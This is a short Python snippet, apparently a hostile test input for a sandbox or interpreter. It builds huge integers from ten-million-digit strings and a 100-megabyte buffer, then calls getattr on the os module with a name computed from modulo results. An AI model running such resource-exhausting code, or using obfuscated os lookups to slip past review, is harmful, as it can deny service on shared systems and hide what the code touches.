import os
a = int('7' * 10**7)
b = int('f' * 10**7, 16)
c = int('1' * 10**7, 36)
d = int.from_bytes(b'\xff' * 10**8, 'big')
e = int('9' * 10**6) * int('9' * 10**6)
getattr(os, str(a % 97) + str(b % 97) + str(c % 97) + str(d % 97) + str(e % 97))
